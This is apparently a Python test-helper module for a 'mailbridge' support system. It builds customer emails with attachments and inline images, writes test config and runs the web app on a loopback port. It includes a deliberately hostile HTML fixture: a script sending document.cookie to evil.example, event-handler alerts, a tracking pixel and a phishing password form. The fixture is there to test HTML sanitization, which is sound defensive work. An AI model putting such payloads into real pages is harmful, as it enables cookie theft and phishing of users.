"""Shared by the attachment tests (pymap/aiosmtpd and Dovecot/Postfix): the customer's mails with
files, the config of the notification budget and the web app, and ``mailbridge web`` on a real
uvicorn server on a free loopback port."""

from __future__ import annotations

import os
import threading
import time
import urllib.error
import urllib.request
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import make_msgid
from pathlib import Path

from mailbridge.app import App
from mailbridge.embedded import free_port
from mailbridge.web.app import server

BASE_URL = "https://support.example/"
# 2 MB of a log file, with every byte value: base64 and the line ends must survive both ways.
LOG = (b"2026-11-20 09:12:03 kc4 ERROR alarm \x00\xff\r\n" + bytes(range(256))) * (2 * 1024 * 1024 // 300)
TRACE_SIZE = 30 * 1024 * 1024 + 200 * 1024  # 30,2 MB
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(2000)

# A customer's HTML mail with an inline image (cid:), a tracking pixel, a script, styles, event
# handlers, a form and a link: what the notification's HTML alternative must show safely.
HOSTILE_HTML = """<html><head><title>KC4</title><style>body { background: url(https://evil.example/bg.gif) }</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
<body onload="alert(1)">
<p>Guten Tag,</p>
<p style="color: red" onclick="alert(2)">die <b>KC4</b> meldet seit heute früh <i>Alarm&nbsp;17</i>, siehe Bild:</p>
<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm" width="320"></p>
<img src="https://tracker.example/open.gif?u=juergen" width="1" height="1" alt="">
<p>Handbuch: <a href="https://kunde.example/kc4.pdf" target="_blank">KC4</a></p>
<form action="https://evil.example/login"><input name="password"></form>
<p>Viele Grüße<br>Jürgen Müller</p>
</body></html>"""


def trace_bytes() -> bytes:
    return os.urandom(1024) * (TRACE_SIZE // 1024)


def web_config(tmp_path: Path, *, base_url: str | None = BASE_URL) -> str:
    """The [notifications], [web] and [ingest] sections of the tests' config (10 MB budget, links
    when ``base_url``, mails up to 64 MB)."""
    key = tmp_path / "web.key"
    key.write_text("k" * 40 + "\n", encoding="utf-8")
    web = f'[web]\nbase_url = "{base_url}"\nsecret_file = "{key}"\nlink_days = 30\n' if base_url else ""
    return f"\n[notifications]\nattach_max_bytes = 10485760\n\n[ingest]\nmax_message_bytes = 67108864\n\n{web}"


def customer_mail(
    *,
    sender: tuple[str, str],
    to: str,
    subject: str,
    files: list[tuple[str, str, bytes]],
    inline_png: bytes | None = None,
    message_id: str | None = None,
    text: str = "Guten Tag,\n\nanbei das Protokoll des Alarms.\n\nViele Grüße\nJürgen Müller\n",
    html: str | None = None,
    in_reply_to: str | None = None,
) -> bytes:
    """A customer's mail as Thunderbird writes one: text + HTML (``html``, else a short one; with an
    inline image as multipart/related when ``inline_png``), then the files."""
    msg = EmailMessage()
    msg["From"] = f"{sender[0]} <{sender[1]}>"
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Fri, 20 Nov 2026 09:30:00 +0100"
    msg["Message-ID"] = message_id or make_msgid(domain=sender[1].split("@")[1])
    if in_reply_to:
        msg["In-Reply-To"] = msg["References"] = in_reply_to
    msg.set_content(text)
    if html is None:
        html = "<p>Guten Tag,</p><p>anbei das Protokoll des Alarms.</p>"
        if inline_png is not None:
            html += '<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm"></p>'
    msg.add_alternative(html, subtype="html")
    if inline_png is not None:
        msg.get_payload()[1].add_related(
            inline_png, "image", "png", cid="<screenshot1@kunde.example>", filename="screenshot.png"
        )
    for name, ctype, data in files:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes(policy=SMTP)


class WebServer:
    """``mailbridge web``'s uvicorn server for ``app`` on a free loopback port, in a thread."""

    def __init__(self, app: App, port: int | None = None):
        self.port = port or free_port()
        self.server = server(app, host="127.0.0.1", port=self.port)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> WebServer:
        self.thread.start()
        deadline = time.monotonic() + 15
        while not self.server.started:
            assert time.monotonic() < deadline, "the web app did not start"
            assert self.thread.is_alive(), "the web app stopped at startup"
            time.sleep(0.02)
        return self

    def __exit__(self, *exc) -> None:
        self.server.should_exit = True
        self.thread.join(10)

    def get(self, url: str) -> tuple[int, dict[str, str], bytes]:
        """GET ``url`` (a link from a mail: its base_url is replaced by this server's address)."""
        local = url.replace(BASE_URL, f"http://127.0.0.1:{self.port}/")
        try:
            with urllib.request.urlopen(local, timeout=30) as r:  # noqa: S310 - loopback http only
                return r.status, dict(r.headers), r.read()
        except urllib.error.HTTPError as e:
            return e.code, dict(e.headers), e.read()
